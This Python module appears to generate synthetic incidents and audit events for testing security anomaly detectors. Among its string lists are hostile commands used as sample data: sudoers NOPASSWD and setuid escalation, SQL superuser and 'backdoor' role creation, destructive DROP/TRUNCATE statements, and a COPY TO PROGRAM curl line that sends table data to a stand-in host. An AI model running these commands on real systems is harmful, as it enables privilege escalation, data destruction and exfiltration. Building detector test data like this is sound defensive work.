"""Incidents of every detector's kind: where they go (`plan`) and the audit events they
are made of (`inject`). Each incident's records are tagged with its id so the label file
can list them as evidence.

Deterministic from the `random.Random` passed in; no I/O.
"""

from workload import ROLES, TARGETS, TABLES, ordinary_action, sql_facts, ssh_facts, kube_request

DAY = 86400
DETECTORS = ["failed-login-burst", "password-spray", "first-access", "off-hours", "unusual-volume",
             "privilege-change", "denial-storm", "error-spike", "dormant-account",
             "rapid-repetition", "new-source"]
# Alerts of these detectors during an incident are side effects, not false positives.
ALSO = {"rapid-repetition": ["unusual-volume"], "unusual-volume": ["rapid-repetition"]}
WORKING = {"first-access", "unusual-volume", "privilege-change", "denial-storm", "error-spike",
           "dormant-account", "rapid-repetition", "new-source"}
FAKE_NAMES = ["admin", "root", "test", "oracle", "postgres", "guest", "backup", "deploy", "jenkins",
              "support1", "dbadmin", "sa", "operator", "info", "webmaster"]


def plan(rng, users, days, per_detector, first_day, prof):
    humans = [u for u in users if not u["dormant"]]
    busy = set()  # (user, day) with an incident already
    out = []
    ext = iter(range(1, 10 ** 6))
    for det in DETECTORS:
        pool = [u for u in users if u["dormant"]] if det == "dormant-account" else list(humans)
        if det == "off-hours":
            # On-call SREs and late-shift workers have nights in their own baseline.
            pool = [u for u in pool if u["role"] != "sre" and not u["late_shift"]]
        rng.shuffle(pool)
        made = 0
        for u in pool:
            if made == per_detector:
                break
            lo = max(first_day, 40) if det == "dormant-account" else first_day
            for _ in range(50):
                day = rng.randint(lo, days - 1)
                if det in WORKING and day % 7 >= 5:
                    continue
                if u["vacation"] and u["vacation"][0] - 1 <= day <= u["vacation"][1]:
                    continue
                if any((u["name"], d) in busy for d in (day - 1, day, day + 1)):
                    continue
                break
            else:
                continue
            inc = {"id": "%s-%d" % (det, made + 1), "kind": det, "day": day, "u": u,
                   "detectors": [det], "also": ALSO.get(det, []), "user": u["name"]}
            n = next(ext)
            if det == "failed-login-burst":
                inc["client_addr"] = "203.0.113.%d" % (n % 250 + 2)
            elif det == "password-spray":
                inc["user"] = None
                inc["client_addr"] = "198.18.%d.%d" % (n // 250, n % 250 + 2)
                others = [h["name"] for h in humans]
                inc["victims"] = rng.sample(others, rng.randint(*prof["spray"][1]))
            elif det == "new-source":
                inc["client_addr"] = "198.51.100.%d" % (n % 250 + 2)
            elif det == "first-access":
                mine = set(ROLES[u["role"]]["targets"])
                foreign = sorted(t for t in TARGETS if t not in mine)
                inc["target"] = rng.choice(foreign)
            busy.add((u["name"], day))
            out.append(inc)
            made += 1
    return out


def working_time(rng, u, base):
    return base + (u["start"] + rng.uniform(1.0, max(1.5, u["length"] - 1.5))) * 3600


def sql_target(u):
    return next((t for t in u["targets"] if TARGETS[t][0] in ("postgres", "mysql")), None)


def inject(rng, em, inc, base, prof):
    det, u, tag = inc["kind"], inc["u"], inc["id"]
    ip = inc.get("client_addr") or u["desk"]
    main = u["targets"][0]
    if det == "failed-login-burst":
        t = base + rng.uniform(0.2, 23.5) * 3600
        n, span = rng.randint(*prof["burst"][0]), rng.uniform(*prof["burst"][1])
        target = rng.choice(u["targets"])
        for i in range(n):
            em.failed_login(t + i * span / n, u["name"], ip, target, tag)
    elif det == "password-spray":
        t = base + rng.uniform(0.2, 23.0) * 3600
        names = rng.sample(FAKE_NAMES, rng.randint(*prof["spray"][0])) + inc["victims"]
        rng.shuffle(names)
        span = rng.uniform(*prof["spray"][2])
        target = rng.choice(["api-internal", "bastion-prod", "app-db-prod"])
        k = 0
        for name in names:
            for _ in range(rng.randint(1, 2)):
                em.failed_login(t + k * span / (2 * len(names)), name, ip, target, tag)
                k += 1
    elif det == "off-hours":
        t = base + rng.uniform(*prof["off_hours"]) * 3600
        session, t = em.login(t, u, u["desk"], main, tag)
        for _ in range(rng.randint(3, 15)):
            raw, facts, rows, nbytes = ordinary_action(rng, main, u["rows"])
            em.action(t, u, u["desk"], main, session, raw, facts, rows=rows, nbytes=nbytes, tag=tag)
            t += rng.uniform(30, 180)
    elif det in ("first-access", "new-source", "dormant-account"):
        target = inc.get("target") or main
        t = working_time(rng, u, base)
        session, t = em.login(t, u, ip, target, tag)
        for _ in range(rng.randint(2, 10)):
            raw, facts, rows, nbytes = ordinary_action(rng, target, 100)
            em.action(t, u, ip, target, session, raw, facts, rows=rows, nbytes=nbytes, tag=tag)
            t += rng.uniform(20, 200)
    elif det == "unusual-volume":
        volume(rng, em, u, tag, base, prof)
    elif det == "privilege-change":
        privilege(rng, em, u, tag, base)
    elif det == "denial-storm":
        denials(rng, em, u, tag, base, prof)
    elif det == "error-spike":
        errors(rng, em, u, tag, base, prof)
    elif det == "rapid-repetition":
        repetition(rng, em, u, tag, base, prof)


def volume(rng, em, u, tag, base, prof):
    target = sql_target(u)
    t = working_time(rng, u, base)
    if target and rng.random() < 0.6:
        session, t = em.login(t, u, u["desk"], target, tag)
        for _ in range(rng.randint(*prof["volume_rows"][0])):
            table = rng.choice(TABLES[target])
            rows = rng.randint(*prof["volume_rows"][1])
            em.action(t, u, u["desk"], target, session, "SELECT * FROM %s" % table,
                      sql_facts("select", [table]), rows=rows, nbytes=rows * rng.randint(150, 400), tag=tag)
            t += rng.uniform(60, 240)
        return
    target = rng.choice(u["targets"])
    session, t = em.login(t, u, u["desk"], target, tag)
    n = rng.randint(*prof["volume_actions"][0])
    span = rng.uniform(*prof["volume_actions"][1])
    for i in range(n):
        raw, facts, rows, nbytes = ordinary_action(rng, target, u["rows"])
        em.action(t + i * span / n, u, u["desk"], target, session, raw, facts, rows=rows, nbytes=nbytes, tag=tag)


PG_PRIV = ["GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO {u}",
           "ALTER USER {u} WITH SUPERUSER", "CREATE ROLE backdoor_{n} LOGIN PASSWORD 'x'",
           "GRANT pg_read_all_data TO {u}", "REVOKE SELECT ON audit_log FROM auditors"]
SSH_PRIV = ["sudo usermod -aG sudo {u}", "echo '{u} ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
            "sudo chmod u+s /usr/bin/find", "sudo useradd -m -s /bin/bash svc{n}"]
K8S_PRIV = [("POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}/rolebindings", "create", "rolebindings"),
            ("POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "create", "clusterrolebindings"),
            ("PATCH", "/apis/rbac.authorization.k8s.io/v1/clusterroles/edit", "patch", "clusterroles")]


def privilege(rng, em, u, tag, base):
    t = working_time(rng, u, base)
    kinds = sorted({TARGETS[x][0] for x in u["targets"]})
    choice = rng.choice(kinds + ["reload"])
    if choice == "reload":
        em.reload(t, "31 rules from /etc/warden/policies; roles changed: %s" % u["name"], tag)
        return
    target = next(x for x in u["targets"] if TARGETS[x][0] == choice)
    session, t = em.login(t, u, u["desk"], target, tag)
    for _ in range(rng.randint(1, 3)):
        raw, facts, rows, nbytes = ordinary_action(rng, target, 10)
        em.action(t, u, u["desk"], target, session, raw, facts, rows=rows, nbytes=nbytes, tag=tag)
        t += rng.uniform(20, 90)
    decision = rng.choice(["allow", "deny", "hold"])
    for _ in range(rng.randint(1, 2)):
        if choice in ("postgres", "mysql"):
            raw = rng.choice(PG_PRIV).format(u=u["name"], n=rng.randint(1, 99))
            kind = raw.split()[0].lower()
            facts = sql_facts("role" if kind in ("alter", "create") else kind, [])
        elif choice == "ssh":
            raw = rng.choice(SSH_PRIV).format(u=u["name"], n=rng.randint(1, 99))
            facts = ssh_facts(raw)
        elif choice == "kubernetes":
            method, path, verb, res = rng.choice(K8S_PRIV)
            path = path.format(ns=rng.choice(["web", "payments"]))
            raw = "%s %s" % (method, path)
            facts = {"kind": "kubernetes", "http": {"method": method, "path": path, "unparsed": False},
                     "kube": {"verb": verb, "group": "rbac.authorization.k8s.io", "version": "v1",
                              "resource": res, "non_resource": False, "unparsed": False}}
        else:
            raw = "POST /api/admin/users/%s/roles" % u["name"]
            facts = {"kind": "http", "method": "POST", "path": "/api/admin/users/%s/roles" % u["name"]}
        em.action(t, u, u["desk"], target, session, raw, facts, decision=decision, rows=0, tag=tag)
        t += rng.uniform(20, 120)


DANGEROUS = ["DROP TABLE {t}", "TRUNCATE {t}", "DELETE FROM {t}", "COPY {t} TO PROGRAM 'curl -T - http://x.example/{n}'",
             "UPDATE {t} SET status = 'void'", "DROP SCHEMA public CASCADE", "ALTER TABLE {t} DROP COLUMN id"]


def denials(rng, em, u, tag, base, prof):
    t = working_time(rng, u, base)
    target = sql_target(u) or u["targets"][0]
    session, t = em.login(t, u, u["desk"], target, tag)
    n, span = rng.randint(*prof["denials"][0]), rng.uniform(*prof["denials"][1])
    for i in range(n):
        if TARGETS[target][0] in ("postgres", "mysql"):
            raw = rng.choice(DANGEROUS).format(t=rng.choice(TABLES[target]), n=rng.randint(1, 999))
            facts = sql_facts(raw.split()[0].lower(), [])
        elif TARGETS[target][0] == "kubernetes":
            raw, facts = kube_request(rng, write=True)
        else:
            raw, facts, _, _ = ordinary_action(rng, target, 1, write_share=1.0)
            raw = raw + " # %d" % i
        em.action(t + i * span / n, u, u["desk"], target, session, raw, facts, decision="deny", tag=tag)


def errors(rng, em, u, tag, base, prof):
    t = working_time(rng, u, base)
    target = rng.choice(u["targets"])
    session, t = em.login(t, u, u["desk"], target, tag)
    (lo, hi), span_range, share_range = prof["errors"][0], prof["errors"][1], prof["errors"][2]
    n, span, share = rng.randint(lo, hi), rng.uniform(*span_range), rng.uniform(*share_range)
    # At least `errors_min` fail (the detector's floor): the first ones, when the draw is short.
    fail = None
    if prof["errors_min"]:
        fail = [rng.random() < share for _ in range(n)]
        for i in range(n):
            if sum(fail) >= prof["errors_min"]:
                break
            fail[i] = True
    for i in range(n):
        raw, facts, rows, nbytes = ordinary_action(rng, target, u["rows"])
        err = None
        if (rng.random() < share) if fail is None else fail[i]:
            err = rng.choice(['permission denied for table salaries', 'column "passwd" does not exist',
                              'relation "pg_shadow_copy" does not exist', "403 Forbidden", "command not found"])
        em.action(t + i * span / n, u, u["desk"], target, session, raw, facts, rows=rows, nbytes=nbytes,
                  error=err, tag=tag)


def repetition(rng, em, u, tag, base, prof):
    t = working_time(rng, u, base)
    target = rng.choice(u["targets"])
    session, t = em.login(t, u, u["desk"], target, tag)
    n = rng.randint(*prof["repetition"][0])
    span = n / rng.uniform(*prof["repetition"][1])
    proto = TARGETS[target][0]
    for i in range(n):
        k = rng.randint(1, 10 ** 6)
        if proto in ("postgres", "mysql"):
            table = TABLES[target][0]
            raw, facts = "SELECT * FROM %s WHERE id = %d" % (table, k), sql_facts("select", [table])
        elif proto == "http":
            raw = "GET /api/customers/%d" % k
            facts = {"kind": "http", "method": "GET", "path": "/api/customers/%d" % k}
        elif proto == "kubernetes":
            raw = "GET /api/v1/namespaces/web/secrets/token-%d" % k
            facts = {"kind": "kubernetes", "http": {"method": "GET", "path": raw[4:]},
                     "kube": {"verb": "get", "resource": "secrets", "namespace": "web"}}
        else:
            raw = "cat /home/shared/export_%d.csv" % k
            facts = ssh_facts(raw)
        em.action(t + i * span / n, u, u["desk"], target, session, raw, facts, rows=1, nbytes=200, tag=tag)
